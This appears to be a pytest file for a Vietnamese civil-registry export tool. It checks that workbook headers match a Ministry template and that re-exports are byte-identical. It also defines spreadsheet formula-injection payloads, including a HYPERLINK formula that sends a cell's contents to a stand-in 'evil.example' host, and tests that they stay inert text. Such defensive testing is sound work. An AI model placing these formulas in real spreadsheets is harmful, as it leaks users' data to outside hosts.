"""The 158 workbook: Ministry header cell for cell, text cells, inert formulas, round-trip
through check-158, byte-identical re-export."""

from __future__ import annotations

import zipfile

import openpyxl
import pytest
from export_helpers import make_book, new_workspace

from sohoa.check158 import check_file
from sohoa.export.excel import SheetRow, build_workbook_bytes, read_workbook
from sohoa.export.run import export_workspace
from sohoa.export.values import sheet_values
from sohoa.spec import KS_TEMPLATE_FILE, columns, spec_path

HOSTILE = {
    "nksHoTen": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "ghiChu": "+1",
    "nksNoiSinh": "@x",
    "meHoTen": "-2",
    "chaHoTen": "=1+1",
    "nycHoTen": "Lò\x07 Văn\tÁnh\r\n",
}


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("excel")
    ws = new_workspace(tmp)
    book, ids = make_book(ws, 12)
    results = export_workspace(ws, tmp / "out")
    yield ws, book, ids, results[0], tmp
    ws.close()


def test_birth_header_equals_ministry_template(exported):
    _, _, _, res, _ = exported
    ours = openpyxl.load_workbook(res.excel)
    ministry = openpyxl.load_workbook(spec_path(KS_TEMPLATE_FILE))["DL Import"]
    sheet = ours.active
    assert sheet.title == "DL Import"
    assert [c.value for c in sheet[1]] == [c.value for c in ministry[1]]
    for ours_cell, ref in zip(sheet[1], ministry[1], strict=True):
        assert ours_cell.value == ref.value  # trailing spaces, embedded newlines and all
        assert ours_cell.font.b == ref.font.b and ours_cell.font.name == ref.font.name
        assert ours_cell.alignment.wrap_text == ref.alignment.wrap_text
    assert sheet["F1"].value == "loaiDangKy \ni=[1,2,3,4,5,6]"


def test_rows_are_text_cells_without_template_samples(exported):
    ws, _, ids, res, _ = exported
    sheet = openpyxl.load_workbook(res.excel).active
    assert sheet.max_row == len(ids) + 1  # header + one row per entry, no sample rows
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s" and cell.number_format == "@", cell.coordinate
    names = columns("KS")
    stt = [r[names.index("STT")].value for r in sheet.iter_rows(min_row=2)]
    assert stt == [str(i) for i in range(1, len(ids) + 1)]
    first = {names[c.column - 1]: c.value for c in sheet[2] if c.value is not None}
    assert first["so"] == "01/2000" and first["quyenSo"] == "01/2000"
    assert first["noiDangKy"] == "UBND xã Cảm Nhân, huyện Yên Bình, tỉnh Yên Bái"
    assert first["nksGioiTinh"] in {"1", "2", "3"}
    assert len(first["ngayDangKy"]) == 10 and first["ngayDangKy"][2] == "."


def test_values_round_trip_through_check_158(exported):
    ws, book, ids, res, _ = exported
    report = check_file(res.excel)
    assert report.errors == 0 and report.warnings == 0, [p.line() for p in report.problems]
    back = read_workbook(res.excel).rows
    for row, entry_id in zip(back, ids, strict=True):
        want = sheet_values(ws.entry_view(entry_id).values, book)
        assert {k: v for k, v in row.items() if k != "STT"} == want


def test_formula_like_values_are_inert(tmp_path):
    data = build_workbook_bytes("KS", [SheetRow(1, {"so": "01/2008", **HOSTILE})])
    path = tmp_path / "h.xlsx"
    path.write_bytes(data)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    sheet = openpyxl.load_workbook(path).active
    names = columns("KS")
    cells = {names[c.column - 1]: c for c in sheet[2] if c.value is not None}
    for name in ("nksHoTen", "ghiChu", "nksNoiSinh", "meHoTen", "chaHoTen"):
        cell = cells[name]
        assert cell.value == HOSTILE[name] and cell.data_type == "s"
        assert cell.quotePrefix, name  # shown and kept as text when edited
    assert cells["nycHoTen"].value == "Lò Văn Ánh"  # control characters and breaks removed
    assert not cells["so"].quotePrefix


def test_other_register_types_use_spec_columns(tmp_path):
    path = tmp_path / "kt.xlsx"
    path.write_bytes(build_workbook_bytes("KT", [SheetRow(1, {"so": "01/2010",
                                                               "nktHoTen": "Lò Văn Ón"})]))
    sheet = openpyxl.load_workbook(path).active
    assert [c.value for c in sheet[1]] == list(columns("KT"))
    assert check_file(path).register_type == "KT"


def test_reexport_is_byte_identical(exported):
    ws, _, _, res, tmp = exported
    first = {p.name: p.read_bytes() for p in (tmp / "out").iterdir() if p.is_file()}
    again = export_workspace(ws, tmp / "out2")[0]
    assert not again.blocked
    second = {p.name: p.read_bytes() for p in (tmp / "out2").iterdir() if p.is_file()}
    assert first.keys() == second.keys()
    for name in first:
        assert first[name] == second[name], name


@pytest.mark.skipif(not __import__("shutil").which("soffice"), reason="LibreOffice not installed")
def test_libreoffice_does_not_evaluate_formula_like_values(tmp_path):
    import csv
    import subprocess

    src = tmp_path / "h.xlsx"
    src.write_bytes(build_workbook_bytes("KS", [SheetRow(1, {"so": "01/2008", **HOSTILE})]))
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
                    "--outdir", str(tmp_path), str(src)], check=True, timeout=180,
                   capture_output=True)
    with (tmp_path / "h.csv").open(encoding="utf-8") as fh:
        header, row = list(csv.reader(fh))[:2]
    got = {h.split()[0]: v for h, v in zip(header, row, strict=True) if v}
    for name in ("nksHoTen", "ghiChu", "nksNoiSinh", "meHoTen", "chaHoTen"):
        assert got[name] == HOSTILE[name]  # the text itself, not a computed value


def test_codes_the_register_implies_are_derived_when_absent():
    from sohoa.records import Book

    ks = Book(1, "KS", 2008, "01/2008", "Chiềng Ban", "Mai Sơn", "Sơn La")
    base = {"so": "3", "ngayDangKy": "15.03.2008", "meHoTen": "Lò Thị Mai"}
    on_time = sheet_values({**base, "nksNgaySinh": "20.01.2008", "chaHoTen": "Lò Văn A"}, ks)
    assert on_time["loaiDangKy"] == "1" and on_time["nksLoaiKhaiSinh"] == "1"
    late = sheet_values({**base, "nksNgaySinh": "01.01.2008"}, ks)
    assert late["loaiDangKy"] == "4" and late["nksLoaiKhaiSinh"] == "3"
    again = sheet_values({**base, "nksNgaySinh": "01.01.2001", "ghiChu": "Đăng ký lại"}, ks)
    assert again["loaiDangKy"] == "2"
    partial = sheet_values({**base, "nksNgaySinh": "2008"}, ks)
    assert "loaiDangKy" not in partial  # cannot tell: left for the clerk
    given = sheet_values({**base, "nksNgaySinh": "01.01.2008", "loaiDangKy": "6"}, ks)
    assert given["loaiDangKy"] == "6"
    kt = Book(2, "KT", 2010, "01/2010", "Chiềng Ban", "Mai Sơn", "Sơn La")
    assert sheet_values({"ngayDangKy": "20.05.2010", "nktNgayChet": "01.05.2010"},
                        kt)["loaiDangKy"] == "4"
